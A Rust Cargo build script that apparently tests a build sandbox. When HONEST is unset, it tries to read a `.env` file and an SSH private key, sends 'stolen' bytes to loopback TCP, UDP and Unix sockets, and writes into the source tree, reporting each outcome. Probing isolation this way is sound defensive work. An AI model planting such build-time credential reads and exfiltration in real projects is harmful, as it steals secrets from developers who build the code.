//! Honest: asks rustc, writes its output, uses temporary files and a socket of its own. A thief, unless HONEST is set: reads `.env` and a key of the
//! throw-away home, knocks at listeners on loopback outside, writes beside the sources. Each line says what came of it.

use std::env::var;
use std::fs;
use std::io::{Read, Write};
use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::{SocketAddr, UnixDatagram, UnixListener, UnixStream};

fn say<T, E: std::fmt::Display>(what: &str, result: Result<T, E>) {
    match result {
        Ok(_) => println!("cargo::warning={what}: worked"),
        Err(error) => println!("cargo::warning={what}: {error}"),
    }
}

fn own_socket() -> std::io::Result<()> {
    let path = std::env::temp_dir().join("own.sock");
    let listener = UnixListener::bind(&path)?;
    UnixStream::connect(&path)?.write_all(b"x")?;
    listener.accept()?.0.read_to_string(&mut String::new())?;
    fs::remove_file(path)
}

fn across_directories() -> std::io::Result<()> {
    let temporary = std::env::temp_dir();
    fs::create_dir_all(temporary.join("d1"))?;
    fs::create_dir_all(temporary.join("d2"))?;
    fs::write(temporary.join("d1/f"), "x")?;
    fs::rename(temporary.join("d1/f"), temporary.join("d2/f"))
}

fn main() {
    println!("cargo::rerun-if-env-changed=GROUND_RUN");
    fs::write(format!("{}/made.rs", var("OUT_DIR").unwrap()), "pub fn made() -> u32 {\n    7\n}\n").unwrap();
    say("honest compiler", std::process::Command::new(var("RUSTC").unwrap()).arg("-vV").output());
    say("honest file", fs::write(std::env::temp_dir().join("a"), "b"));
    say("honest rename", across_directories());
    say("honest socket", own_socket());
    if var("HONEST").is_ok() {
        return;
    }
    say("theft secret", fs::read("../../.env"));
    say("theft key", fs::read(var("HOME").unwrap_or_default() + "/.ssh/id_ed25519"));
    say("theft tcp", std::net::TcpStream::connect("127.0.0.1:4444").and_then(|mut to| to.write_all(b"stolen")));
    say("theft udp", std::net::UdpSocket::bind("127.0.0.1:0").and_then(|from| from.send_to(b"stolen", "127.0.0.1:4445")));
    say("theft stream", UnixStream::connect("/tmp/out.stream").and_then(|mut to| to.write_all(b"stolen")));
    say("theft datagram", UnixDatagram::unbound().and_then(|from| from.send_to(b"stolen", "/tmp/out.datagram")));
    let name = SocketAddr::from_abstract_name("ground-out");
    say("theft abstract", name.and_then(|name| UnixStream::connect_addr(&name)).and_then(|mut to| to.write_all(b"stolen")));
    say("theft source", fs::write("../../src/stolen.rs", ""));
}
